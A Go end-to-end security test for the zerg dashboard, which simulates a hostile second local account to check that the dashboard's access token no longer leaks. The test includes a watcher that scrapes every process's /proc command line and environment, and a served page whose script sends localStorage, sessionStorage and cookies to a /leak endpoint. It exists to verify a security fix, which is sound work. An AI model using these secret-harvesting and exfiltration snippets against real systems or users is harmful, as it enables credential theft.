package dashboard

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/zergrush/zerg/e2e/e2ebin"
)

// The red team's second account runs this test binary in one of two
// roles (TestMain hands it over before any test): "watch" reads every
// process's command line in /proc until told to stop, "serve" is a web
// server on another loopback port that records every request and gives
// the browser a page that sends back whatever storage and cookies it can
// read.
const eveArg = "zerg-rt-eve"

func eveMain(args []string) int {
	// The test holds the other end of stdin: when it ends, however it
	// ends, so does this.
	go func() {
		io.Copy(io.Discard, os.Stdin)
		os.Exit(0)
	}()
	switch {
	case len(args) == 3 && args[0] == "watch":
		return eveWatch(args[1], args[2])
	case len(args) == 2 && args[0] == "serve":
		return eveServe(args[1])
	}
	fmt.Fprintln(os.Stderr, "usage: "+eveArg+" watch OUT STOP | serve LOG")
	return 2
}

// eveWatch appends each command line it has not seen to out, sweeping
// /proc until the file stop exists.
func eveWatch(out, stop string) int {
	f, err := os.OpenFile(out, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer f.Close()
	seen := map[string]bool{}
	for sweep := 0; ; sweep++ {
		procs, _ := filepath.Glob("/proc/[0-9]*")
		for _, p := range procs {
			for _, name := range []string{"cmdline", "environ"} {
				b, err := os.ReadFile(filepath.Join(p, name))
				if err != nil || len(b) == 0 {
					continue
				}
				line := name + ": " + strings.ReplaceAll(string(b), "\x00", " ")
				if !seen[line] {
					seen[line] = true
					fmt.Fprintln(f, line)
				}
			}
		}
		fmt.Fprintf(f, "sweep %d\n", sweep)
		if _, err := os.Stat(stop); err == nil {
			return 0
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// eveServe listens on a loopback port (printed on stdout), records every
// request with its headers in log, and serves a page that sends back to
// /leak what it can read in the browser: its storage, its cookies.
func eveServe(log string) int {
	f, err := os.OpenFile(log, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	fmt.Println(ln.Addr().(*net.TCPAddr).Port)
	const page = `<!doctype html><title>a link</title><script>
fetch("/leak?local=" + encodeURIComponent(JSON.stringify(Object.assign({}, localStorage))) +
  "&session=" + encodeURIComponent(JSON.stringify(Object.assign({}, sessionStorage))) +
  "&cookie=" + encodeURIComponent(document.cookie) + "&href=" + encodeURIComponent(location.href));
</script>`
	err = http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b bytes.Buffer
		fmt.Fprintf(&b, "%s %s\n", r.Method, r.URL)
		r.Header.Write(&b)
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		b.Write(body)
		b.WriteString("\n\n")
		f.Write(b.Bytes())
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, page)
	}))
	fmt.Fprintln(os.Stderr, err)
	return 1
}

// TestRedTeamDashboard: zerg dashboard, opened in the browser as a person
// would, while another account of the host watches every command line in
// /proc and serves a page on another loopback port that the person opens
// after the dashboard (one link): nothing that account learns opens the
// dashboard. Issue 35: the URL with ?t=TOKEN was in xdg-open's and the
// browser's command lines, and the cookie for 127.0.0.1 went to the other
// port.
//
// Built-in controls, each a reason the attack could have worked: the
// watcher saw the opener's command line (the file it was given), the other
// port's page ran in the browser and sent back what it could read, and the
// token the person has does open the dashboard with each way of presenting
// a secret the attack tries.
func TestRedTeamDashboard(t *testing.T) {
	eve := e2ebin.OtherAccount(t)
	ctx := browser(t)
	p := newProject(t, func(s string) string { return s })
	if code, so, se := p.zerg("rush", "demo", "--rehearse"); code != 0 || !strings.Contains(so, "DELIVERED") {
		t.Fatalf("rush: exit %d\n%s\n%s", code, so, se)
	}

	// The other account's corner: its program and its records.
	tmp := e2ebin.Traversable(t, t.TempDir())
	evDir := filepath.Join(tmp, "eve")
	must(t, os.Mkdir(evDir, 0o755))
	must(t, os.Chown(evDir, eve.UID, eve.GID))
	self, err := os.Executable()
	must(t, err)
	evBin := filepath.Join(tmp, "eve-bin")
	b, err := os.ReadFile(self)
	must(t, err)
	must(t, os.WriteFile(evBin, b, 0o755))
	watched, stop, served := filepath.Join(evDir, "proc.txt"), filepath.Join(evDir, "stop"), filepath.Join(evDir, "requests.txt")

	watcher := eve.As(evBin, eveArg, "watch", watched, stop)
	watcher.Stderr = os.Stderr
	_, err = watcher.StdinPipe() // closed when the test ends
	must(t, err)
	must(t, watcher.Start())
	t.Cleanup(func() {
		if watcher.ProcessState == nil {
			watcher.Process.Kill()
			watcher.Wait()
		}
	})
	server := eve.As(evBin, eveArg, "serve", served)
	serverOut, err := server.StdoutPipe()
	must(t, err)
	_, err = server.StdinPipe()
	must(t, err)
	server.Stderr = os.Stderr
	must(t, server.Start())
	t.Cleanup(func() { server.Process.Kill(); server.Wait() })
	port, err := bufio.NewReader(serverOut).ReadString('\n')
	if err != nil {
		t.Fatalf("the other account's server printed no port: %v", err)
	}
	evURL := "http://127.0.0.1:" + strings.TrimSpace(port) + "/"
	waitFor(t, "the watcher's first sweep", func() bool { return strings.Contains(readText(watched), "sweep 0") })

	// The person's desktop: an xdg-open that records what it is asked to
	// open and stays a moment, as a real one does while it starts the
	// browser.
	desk := filepath.Join(tmp, "desk")
	must(t, os.Mkdir(desk, 0o755))
	opened := filepath.Join(desk, "opened.txt")
	must(t, os.WriteFile(filepath.Join(desk, "xdg-open"), []byte("#!/bin/sh\nprintf '%s\\n' \"$@\" >> "+opened+"\nsleep 2\n"), 0o755))
	p.pathPrefix = desk
	u := startDashboardOpen(t, p, "demo")
	// The token as the person has it: in the fragment (or, from an older
	// zerg, the query), and the server's address.
	pu, err := url.Parse(u)
	must(t, err)
	token := pu.Query().Get("t")
	if f, ok := strings.CutPrefix(pu.Fragment, "t="); ok {
		token = strings.SplitN(f, "&", 2)[0]
	}
	if len(token) < 32 {
		t.Fatalf("no token in %s", u)
	}
	base := pu.Scheme + "://" + pu.Host + "/"
	waitFor(t, "xdg-open", func() bool { return readText(opened) != "" })
	launcher := strings.TrimSpace(readText(opened))
	// A file (what the browser opens next), never a URL with a secret; the
	// test goes on either way, to see what the other account makes of it.
	target := launcher
	if strings.Contains(launcher, token) || !filepath.IsAbs(launcher) {
		t.Errorf("xdg-open was given %q, not a file", launcher)
	} else {
		target = "file://" + launcher
		if out, err := eve.As("cat", launcher).CombinedOutput(); err == nil {
			t.Errorf("the other account read the launcher file %s:\n%s", launcher, out)
		}
	}
	waitFor(t, "the watcher to see xdg-open", func() bool { return strings.Contains(readText(watched), "xdg-open "+launcher) })

	// The browser opens the file, as the desktop would, and lands on the
	// run's page; the launcher is gone once its code is used.
	if err := chromedp.Do(within(t, ctx), chromedp.Navigate(target), chromedp.WaitVisible(`#graph svg`)); err != nil {
		body, _ := chromedp.Run(within(t, ctx), chromedp.Evaluate[string](`location.href + "\n" + document.body.innerText`))
		t.Fatalf("the launcher did not open the dashboard: %v\n%s", err, body)
	}
	if _, err := os.Stat(launcher); filepath.IsAbs(launcher) && !os.IsNotExist(err) {
		t.Errorf("the launcher is still there after its code was used: %v", err)
	}
	// The one link: the other account's page, on another loopback port.
	if err := chromedp.Do(within(t, ctx), chromedp.Navigate(evURL)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the other port's page to send back what it read", func() bool { return strings.Contains(readText(served), "GET /leak?") })
	must(t, os.WriteFile(stop, nil, 0o644))
	if !exited(watcher, time.Minute) {
		t.Fatal("the watcher did not stop")
	}

	learned := readText(watched) + "\n" + readText(served)
	if strings.Contains(learned, token) {
		t.Errorf("the other account learned the token")
	}
	// Every secret-looking word it learned, tried every way a secret opens
	// the dashboard (and every way an older zerg took one).
	words := regexp.MustCompile(`[0-9A-Za-z_-]{16,}`).FindAllString(learned, -1)
	slices.Sort(words)
	words = slices.Compact(words)
	for _, w := range words {
		if code := tryDashboard(t, base, w); code != 0 {
			t.Errorf("%q, which the other account learned, opens the dashboard (%d)", w, code)
		}
	}
	// The control: the person's token opens it.
	if code := tryDashboard(t, base, token); code == 0 {
		t.Errorf("control: the token itself opens nothing; the test would not see a leak")
	}
	t.Logf("the other account learned %d words, none opens the dashboard", len(words))
}

// tryDashboard presents secret to the dashboard at base every way one has
// been taken: a login, a session header, a cookie, a query. It returns the
// status of the first that reads the runs, 0 when none does.
func tryDashboard(t *testing.T, base, secret string) int {
	t.Helper()
	do := func(method, path string, h http.Header) (int, string) {
		req, _ := http.NewRequest(method, base+path, nil)
		for k, v := range h {
			req.Header[k] = v
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if code, body := do("POST", "api/session", http.Header{"X-Zerg-Login": {secret}}); code == http.StatusOK {
		var s struct{ Session string }
		if json.Unmarshal([]byte(body), &s) == nil {
			if code, _ := do("GET", "api/runs", http.Header{"X-Zerg-Session": {s.Session}}); code == http.StatusOK {
				return code
			}
		}
	}
	for _, c := range []struct {
		path string
		h    http.Header
	}{
		{"api/runs", http.Header{"X-Zerg-Session": {secret}}},
		{"api/runs", http.Header{"Cookie": {"zerg_dashboard=" + secret}}},
		{"api/runs?t=" + secret, nil},
	} {
		if code, body := do("GET", c.path, c.h); code == http.StatusOK && strings.Contains(body, "demo") {
			return code
		}
	}
	return 0
}

// startDashboardOpen starts zerg dashboard as a person does (it opens the
// browser) and returns the URL it printed.
func startDashboardOpen(t *testing.T, p *project, args ...string) string {
	t.Helper()
	return startDashboardWith(t, p, append([]string{"dashboard"}, args...))
}

// exited waits up to d for c to end.
func exited(c *exec.Cmd, d time.Duration) bool {
	done := make(chan struct{})
	go func() { c.Wait(); close(done) }()
	select {
	case <-done:
		return true
	case <-time.After(d):
		return false
	}
}

func waitFor(t *testing.T, what string, ok func() bool) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for !ok() {
		if time.Now().After(deadline) {
			t.Fatalf("waited a minute for %s", what)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func readText(path string) string {
	b, _ := os.ReadFile(path)
	return string(b)
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
